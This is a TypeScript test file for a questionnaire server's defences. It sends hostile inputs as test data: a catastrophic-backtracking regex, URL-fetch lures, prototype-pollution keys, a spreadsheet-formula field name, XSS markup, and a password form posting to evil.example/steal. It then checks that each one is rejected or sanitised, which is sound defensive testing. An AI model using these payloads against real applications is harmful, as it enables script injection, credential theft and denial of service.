// A questionnaire is data from a stranger, and so is every request: attacks from the hostile-input
// run (issue 10, items 1–5) performed over HTTP against the real app and store.
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { parse } from 'csv-parse/sync';
import { QuestionnaireModel } from '../../server/src/questionnaires/questionnaire.model';
import { definitionHash } from '../../server/src/questionnaires/questionnaires.service';
import { checkDefinition } from '../../server/src/questionnaires/definition';
import { sanitizeDefinition } from '../../server/src/questionnaires/markup';
import { useAgents, useTestApp } from '../helpers/app';
import { ROOT } from '../helpers/db';
import { answers, createOpenWave, fixture } from '../helpers/fixtures';

const app = useTestApp({ demo: false });
const { coordinator, researcher } = useAgents(app, 'coordinator', 'researcher');

const key = () => `u-${randomUUID().slice(0, 8)}`;
const upload = (k: string, definition: string) => coordinator.post('/api/questionnaires').send({ key: k, definition });
const withElements = (elements: unknown[]) => JSON.stringify({ pages: [{ name: 'p1', elements }] });
const PROBLEM_JSON = /^application\/problem\+json/;

/** The mini fixture with extra questions on its first page. */
function miniWith(...extra: Record<string, unknown>[]): Record<string, unknown> {
  const d = fixture('mini-barriers.json') as { pages: { elements: unknown[] }[] };
  d.pages[0]!.elements.push(...extra);
  return d;
}

/** Stores a version without any upload check, as one stored before the checks existed. */
async function storeUnchecked(definition: Record<string, unknown>): Promise<string> {
  const k = key();
  await QuestionnaireModel.create({
    _id: `${k}@1`,
    key: k,
    version: 1,
    title: { ru: k, en: k, uk: k },
    definitionJson: JSON.stringify(definition),
    hash: definitionHash(definition),
    source: 'upload',
    createdAt: new Date(),
  });
  return `${k}@1`;
}

async function openWave(questionnaireId: string): Promise<string> {
  return createOpenWave(questionnaireId, {
    title: { ru: 'Волна', en: 'Wave', uk: 'Хвиля' },
  });
}

const submit = (code: string, a: Record<string, unknown>) =>
  request(app).post(`/api/waves/${code}/responses`).send({ clientId: randomUUID(), locale: 'en', answers: a });

describe('1. regular expressions from questionnaires run in linear time', () => {
  const nested = { type: 'text', name: 'code', validators: [{ type: 'regex', regex: '^(a+)+$', text: 'only a' }] };

  it('when an answer is crafted against a nested quantifier, then the submit is refused promptly and the server keeps answering', async () => {
    const res = await upload(key(), JSON.stringify(miniWith(nested)));
    expect(res.status).toBe(201);
    const code = await openWave(res.body.id);

    const server = http.createServer(app);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const started = Date.now();
      const attack = request(base)
        .post(`/api/waves/${code}/responses`)
        .send({ clientId: randomUUID(), locale: 'en', answers: answers({ code: `${'a'.repeat(32)}!` }) })
        .then((r) => ({ r, at: Date.now() - started }));
      const health = new Promise((resolve) => setTimeout(resolve, 20))
        .then(() => request(base).get('/api/health'))
        .then((r) => ({ r, at: Date.now() - started }));
      const [a, h] = await Promise.all([attack, health]);
      expect(a.r.status).toBe(422);
      expect(a.r.body.invalid_params).toEqual([expect.objectContaining({ name: 'code', code: 'invalid' })]);
      expect(h.r.status).toBe(200);
      // Backtracking took 77 s for this answer; RE2 takes milliseconds. The bound is generous.
      expect(a.at).toBeLessThan(2000);
      expect(h.at).toBeLessThan(2000);
    } finally {
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });

  it('when the answer matches or not, then the verdict is the same as before (case-insensitive and \\u escapes too)', async () => {
    const res = await upload(
      key(),
      JSON.stringify(
        miniWith(nested, {
          type: 'text',
          name: 'ref',
          validators: [{ type: 'regex', regex: '^\\u0041-\\d{3}$', caseInsensitive: true }],
        }),
      ),
    );
    expect(res.status).toBe(201);
    const code = await openWave(res.body.id);
    expect((await submit(code, answers({ code: 'aaaa', ref: 'a-123' }))).status).toBe(201);
    expect((await submit(code, answers({ code: 'aaaa', ref: 'A-123' }))).status).toBe(201);
    const bad = await submit(code, answers({ code: 'aab', ref: 'B-123' }));
    expect(bad.status).toBe(422);
    expect(bad.body.invalid_params.map((p: { name: string }) => p.name).sort()).toEqual(['code', 'ref']);
  });

  it.each([
    ['a backreference', '^(a+)\\1$'],
    ['a lookahead', '^(?=.*\\d).+$'],
    ['a lookbehind', '(?<!x)y'],
  ])('when a regex validator uses %s, then 422 names the question and why', async (_l, regex) => {
    const k = key();
    const res = await upload(k, withElements([{ type: 'text', name: 'q1', validators: [{ type: 'regex', regex }] }]));
    expect(res.status).toBe(422);
    expect(res.body.invalid_params).toEqual([
      expect.objectContaining({ name: 'q1', code: 'unsupported_regex', reason: expect.stringContaining('linear') }),
    ]);
    expect(await QuestionnaireModel.countDocuments({ key: k })).toBe(0);
  });
});

describe('2. the server never fetches a URL named in a questionnaire', () => {
  let hits: string[];
  let target: http.Server;
  let redirector: http.Server;
  let targetUrl: string;
  let redirectUrl: string;

  beforeAll(async () => {
    hits = [];
    const listen = async (s: http.Server) => {
      await new Promise<void>((resolve) => s.listen(0, '127.0.0.1', resolve));
      return `http://127.0.0.1:${(s.address() as AddressInfo).port}`;
    };
    target = http.createServer((req, res) => {
      hits.push(`target ${req.url}`);
      res.setHeader('Content-Type', 'application/json');
      res.end('["funding","legal"]');
    });
    targetUrl = await listen(target);
    redirector = http.createServer((req, res) => {
      hits.push(`redirect ${req.url}`);
      res.writeHead(302, { Location: `${targetUrl}/after-redirect` });
      res.end();
    });
    redirectUrl = await listen(redirector);
  });
  afterAll(async () => {
    await Promise.all([target, redirector].map((s) => new Promise((resolve) => s.close(resolve))));
  });
  const settle = () => new Promise((resolve) => setTimeout(resolve, 300));

  it('when an upload has choicesByUrl (direct or through a redirect), then 422 names the question and property and nothing is requested', async () => {
    const k = key();
    const res = await upload(
      k,
      withElements([
        { type: 'dropdown', name: 'd1', choicesByUrl: { url: `${targetUrl}/choices` } },
        { type: 'checkbox', name: 'c1', choicesByUrl: { url: `${redirectUrl}/choices` } },
        {
          type: 'matrixdropdown',
          name: 'm1',
          rows: ['a'],
          columns: [{ name: 'col', cellType: 'dropdown', choicesByUrl: { url: `${targetUrl}/col` } }],
        },
      ]),
    );
    await settle();
    expect(hits).toEqual([]);
    expect(res.status).toBe(422);
    expect(res.headers['content-type']).toMatch(PROBLEM_JSON);
    const remote = res.body.invalid_params.filter((p: { code: string }) => p.code === 'remote_source');
    expect(remote.map((p: { name: string }) => p.name)).toEqual(['d1', 'c1', 'col']);
    expect(remote[0].reason).toMatch(/^choicesByUrl: /);
    expect(await QuestionnaireModel.countDocuments({ key: k })).toBe(0);
  });

  it.each([
    ['surveyId', { surveyId: 'abc' }],
    ['surveyPostId', { surveyPostId: 'abc' }],
    ['navigateToUrl', { navigateToUrl: 'https://example.org' }],
  ])('when an upload sets %s, then 422 names the property', async (prop, extra) => {
    const res = await upload(
      key(),
      JSON.stringify({ ...extra, pages: [{ name: 'p1', elements: [{ type: 'text', name: 'a' }] }] }),
    );
    expect(res.status).toBe(422);
    expect(res.body.invalid_params).toEqual([
      expect.objectContaining({ code: 'remote_source', reason: expect.stringMatching(new RegExp(`^${prop}: `)) }),
    ]);
  });

  it('when a version stored before the check has choicesByUrl, then loading and answering its wave requests nothing', async () => {
    const id = await storeUnchecked(
      miniWith({ type: 'dropdown', name: 'd1', choicesByUrl: { url: `${redirectUrl}/stored` } }),
    );
    const code = await openWave(id);
    expect((await request(app).get(`/api/waves/${code}`)).status).toBe(200);
    const res = await submit(code, answers());
    expect(res.status).toBe(201);
    await settle();
    expect(hits).toEqual([]);
  });
});

describe('3. names', () => {
  it.each([
    ['a space', { type: 'text', name: 'a b' }, 'a b', /a space/],
    ['a quote', { type: 'text', name: 'a"b' }, 'a"b', /a quote/],
    ['"#"', { type: 'text', name: 'a#b' }, 'a#b', /"#"/],
    ['"="', { type: 'text', name: '=1+1' }, '=1+1', /start with/],
    ['a line break', { type: 'text', name: 'a\r\nb' }, 'a\r\nb', /a line break/],
    ['__proto__', { type: 'text', name: '__proto__' }, '__proto__', /reserved/],
    ['constructor', { type: 'text', name: 'constructor' }, 'constructor', /reserved/],
    ['toString', { type: 'text', name: 'toString' }, 'toString', /reserved/],
    ['the comment suffix', { type: 'text', name: 'x-Comment' }, 'x-Comment', /-Comment/],
    ['65 characters', { type: 'text', name: 'a'.repeat(65) }, 'a'.repeat(65), /64/],
    ['a bad valueName', { type: 'text', name: 'ok', valueName: 'a;b' }, 'ok', /valueName: .*";"/],
    ['a bad panel name', { type: 'panel', name: 'p 1', elements: [{ type: 'text', name: 'a' }] }, 'p 1', /a space/],
    [
      'a bad matrix column name',
      { type: 'matrixdropdown', name: 'm', rows: ['r'], columns: [{ name: 'c=1' }] },
      'c=1',
      /"="/,
    ],
  ])('when a name has %s, then 422 says which name and why', async (_l, element, name, why) => {
    const k = key();
    const res = await upload(k, withElements([element]));
    expect(res.status).toBe(422);
    expect(res.headers['content-type']).toMatch(PROBLEM_JSON);
    expect(res.body.invalid_params).toEqual([
      expect.objectContaining({ name, code: 'unsafe_name', reason: expect.stringMatching(why) }),
    ]);
    expect(await QuestionnaireModel.countDocuments({ key: k })).toBe(0);
  });

  it('when a page or calculated value has a bad name, then 422 says which', async () => {
    const res = await upload(
      key(),
      JSON.stringify({
        calculatedValues: [{ name: 'total sum', expression: '1' }],
        pages: [{ name: 'page #1', elements: [{ type: 'text', name: 'a' }] }],
      }),
    );
    expect(res.status).toBe(422);
    expect(res.body.invalid_params.map((p: { name: string }) => p.name).sort()).toEqual(['page #1', 'total sum']);
  });

  const shipped = [
    ...fs
      .readdirSync(path.join(ROOT, 'surveys'))
      .flatMap((k) => fs.readdirSync(path.join(ROOT, 'surveys', k)).map((f) => path.join('surveys', k, f))),
    ...fs.readdirSync(path.join(ROOT, 'test', 'fixtures')).map((f) => path.join('test', 'fixtures', f)),
  ].filter((f) => f.endsWith('.json'));
  it.each(shipped)('%s passes every check and is stored unchanged', (file) => {
    const definition = JSON.parse(fs.readFileSync(path.join(ROOT, file), 'utf8')) as Record<string, unknown>;
    expect(checkDefinition(definition)).toEqual([]);
    expect(sanitizeDefinition(definition).changed).toEqual([]);
  });

  it('when a name stored before the check starts a formula, then the CSV header cell is neutralised', async () => {
    const id = await storeUnchecked(miniWith({ type: 'text', name: '=HYPERLINK("http://x")' }));
    const code = await openWave(id);
    expect((await submit(code, answers({ '=HYPERLINK("http://x")': 'y' }))).status).toBe(201);
    const res = await researcher.get(`/api/waves/${code}/exports/responses.csv`).buffer(true);
    expect(res.status).toBe(200);
    const [header] = parse(res.text.replace(/^\uFEFF/, ''), { delimiter: ';', to_line: 1 }) as string[][];
    expect(header).toContain(`'=HYPERLINK("http://x")`);
    expect(header!.filter((h) => /^[=+\-@]/.test(h))).toEqual([]);
  });
});

describe('4. markup passes an allow-list sanitizer when stored', () => {
  it('when questionnaire text carries script in disguise, then it is stored without it and the response says where', async () => {
    const k = key();
    const res = await upload(
      k,
      JSON.stringify({
        completedHtml:
          '<p>Спасибо!</p><form action="https://evil.example/steal"><input name="pw"><button>OK</button></form>',
        pages: [
          {
            name: 'p1',
            elements: [
              { type: 'html', name: 'h1', html: '<p>Текст</p><svg/onload=alert(1)><img src="x"/onerror=alert(2)>' },
              { type: 'html', name: 'h2', html: '<a href="&#106;avascript&colon;alert(3)">ссылка</a> <b>жирный</b>' },
              { type: 'html', name: 'h3', html: '<style>body{display:none}</style><p>видно</p>' },
              { type: 'text', name: 'q1', title: { ru: 'Вопрос <img src=x onerror="alert(4)">', en: 'Q&A: a < b' } },
            ],
          },
        ],
      }),
    );
    expect(res.status).toBe(201);
    expect(res.body.sanitized.map((p: { name: string }) => p.name)).toEqual([
      'completedHtml',
      'pages[0].elements[0].html',
      'pages[0].elements[1].html',
      'pages[0].elements[2].html',
      'pages[0].elements[3].title.ru',
    ]);
    const stored = await coordinator.get(`/api/questionnaires/${k}/versions/1`);
    const text = JSON.stringify(stored.body.definition);
    for (const bad of ['onload', 'onerror', 'javascript', '&#106;', '<svg', '<style', '<form', 'action=', '<input'])
      expect(text).not.toContain(bad);
    const els = stored.body.definition.pages[0].elements;
    expect(els[1].html).toBe('<a>ссылка</a> <b>жирный</b>');
    expect(els[2].html).toBe('<p>видно</p>');
    expect(els[3].title.en).toBe('Q&A: a < b'); // plain text is kept as written
    expect(stored.body.definition.completedHtml).toBe('<p>Спасибо!</p>OK');
  });
});

describe('5. hostile input gets a 4xx problem document, never a 500', () => {
  it('when the questionnaire text is nested 10,000 levels deep, then 422 says so', async () => {
    const deep = `{"pages":[{"name":"p1","elements":[{"type":"text","name":"a","title":${'['.repeat(10_000)}${']'.repeat(10_000)}}]}]}`;
    const res = await upload(key(), deep);
    expect(res.status).toBe(422);
    expect(res.headers['content-type']).toMatch(PROBLEM_JSON);
    expect(res.body.invalid_params[0]).toMatchObject({
      code: 'invalid_json',
      reason: expect.stringMatching(/nested deeper/),
    });
  });

  it.each([
    ['a question named __proto__', [{ type: 'text', name: '__proto__' }], 'unsafe_name'],
    ['a "__proto__" key', [JSON.parse('{"type":"text","name":"a","__proto__":{"x":1}}')], 'unsafe_key'],
    ['inputType: {}', [{ type: 'text', name: 'a', inputType: {} }], 'wrong_property_type'],
    ['isRequired: []', [{ type: 'text', name: 'a', isRequired: [] }], 'wrong_property_type'],
    ['visibleIf: {}', [{ type: 'text', name: 'a', visibleIf: {} }], 'wrong_property_type'],
    ['title: [1]', [{ type: 'text', name: 'a', title: [1] }], 'wrong_property_type'],
    ['inputType: 5', [{ type: 'text', name: 'a', inputType: 5 }], 'unloadable'],
  ])('when a questionnaire has %s, then 422', async (_l, elements, code) => {
    const res = await upload(key(), withElements(elements));
    expect(res.status).toBe(422);
    expect(res.headers['content-type']).toMatch(PROBLEM_JSON);
    expect(res.body.invalid_params).toEqual(expect.arrayContaining([expect.objectContaining({ code })]));
  });

  it('when a path has a malformed percent-encoding, then 400', async () => {
    for (const url of ['/api/waves/%E0%A4%A', '/api/waves/%E0%A4%A/responses', '/api/questionnaires/%ZZ/versions/1']) {
      const res = await request(app).get(url);
      expect(res.status).toBe(400);
      expect(res.headers['content-type']).toMatch(PROBLEM_JSON);
      expect(res.body).toMatchObject({ status: 400, code: 'malformed_path' });
    }
  });

  it.each([
    ['text/plain', 'text/plain'],
    ['form-encoded', 'application/x-www-form-urlencoded'],
  ])('when a JSON body is sent as %s, then 415', async (_l, type) => {
    const json = JSON.stringify({ clientId: randomUUID(), locale: 'ru', answers: answers() });
    for (const r of [
      request(app).post('/api/waves/any/responses'),
      request(app).post('/api/auth/login'),
      coordinator.post('/api/questionnaires'),
    ]) {
      const res = await r.set('Content-Type', type).send(type === 'text/plain' ? json : 'key=a&definition=%7B%7D');
      expect(res.status).toBe(415);
      expect(res.headers['content-type']).toMatch(PROBLEM_JSON);
      expect(res.body).toMatchObject({ status: 415, code: 'unsupported_media_type' });
    }
  });
});
